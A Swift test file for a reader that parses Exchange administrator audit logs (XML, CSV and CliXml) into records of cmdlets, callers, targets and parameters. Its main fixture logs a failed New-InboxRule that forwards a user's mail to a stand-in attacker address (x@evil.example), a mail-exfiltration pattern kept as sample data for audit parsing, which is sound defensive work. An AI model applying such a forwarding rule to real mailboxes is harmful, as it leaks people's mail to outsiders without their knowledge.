import Records
import Testing

@testable import Readers

@Suite("Administrator audit log")
struct AdminAuditTests {
  static let event = """
    <Event Caller="contoso.example/Users/Administrator" Cmdlet="New-InboxRule" ObjectModified="contoso.example/Users/ann" \
    RunDate="2021-03-02T15:48:15-07:00" Succeeded="false" Error="It &quot;failed&quot;" \
    OriginatingServer="EX01 (15.01.2176.002)">
      <CmdletParameters>
        <Parameter Name="Name" Value="." />
        <Parameter Name="ForwardTo" Value="&quot;x&quot; [SMTP:x@evil.example]" />
      </CmdletParameters>
      <ModifiedProperties>
        <Property Name="ForwardTo" OldValue="" NewValue="x@evil.example" />
      </ModifiedProperties>
    </Event>

    """

  @Test("an event gives a cmdlet with parameters, what it changed, and why it failed")
  func mapping() async throws {
    let reading = try await Reading.of("<SearchResults>\n" + Self.event + "</SearchResults>", by: AdminAuditReader.self)
    #expect(reading.defects.isEmpty)
    let record = try #require(reading.records.first)
    #expect(record.occurredAt == 1_614_725_295_000_000)
    #expect(record.timeBasis == .offset)
    #expect(record.operation == "New-InboxRule")
    #expect(record.isSuccess == false)
    #expect(record.server == "EX01")
    let cmdlet = try #require(record.cmdlet)
    #expect(cmdlet.caller == "contoso.example/Users/Administrator")
    #expect(cmdlet.target == "contoso.example/Users/ann")
    #expect(
      cmdlet.parameters.map { "\($0.name)=\($0.value ?? "nil")" } == [
        "Name=.", "ForwardTo=\"x\" [SMTP:x@evil.example]", "ModifiedProperties.ForwardTo=x@evil.example",
        "ModifiedProperties.ForwardTo.OldValue=nil", "ForwardTo=x@evil.example", "Error=It \"failed\"",
      ])
  }

  @Test("Search-AdminAuditLog as CSV and CliXml is the same kind")
  func containers() async throws {
    let csv = """
      "ObjectModified","CmdletName","CmdletParameters","ModifiedProperties","Caller","Succeeded","Error","RunDate"
      "ann","Set-Mailbox","{Identity, ForwardingAddress}","","Admin","True","None","2021-03-02T22:48:15Z"

      """
    let cliXML = """
      <Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04"><Obj RefId="0"><Props>
      <S N="ObjectModified">ann</S><S N="CmdletName">Set-Mailbox</S><S N="Caller">Admin</S><B N="Succeeded">true</B>
      <S N="Error">None</S><DT N="RunDate">2021-03-02T22:48:15Z</DT>
      <Obj N="CmdletParameters" RefId="1"><TN RefId="1"><T>x</T></TN><LST>
      <Obj RefId="2"><ToString>Identity</ToString><Props><S N="Name">Identity</S><S N="Value">a_x000A_b</S></Props></Obj>
      </LST></Obj></Props></Obj></Objs>
      """
    for (text, parameters) in [
      (csv, ["CmdletParameters={Identity, ForwardingAddress}"]), (cliXML, ["Identity=a\nb"]),
    ] {
      #expect(reader(for: Opening(Array(text.utf8), isWhole: true))?.kind == "admin_audit_log")
      let reading = try await Reading.of(text, by: AdminAuditReader.self)
      #expect(reading.defects.isEmpty)
      #expect(reading.records.map(\.occurredAt) == [1_614_725_295_000_000])
      #expect(reading.records.map(\.isSuccess) == [true])
      #expect(
        reading.records.first?.cmdlet?.parameters.map { "\($0.name)=\($0.value ?? "")" } == parameters)
    }
  }
}
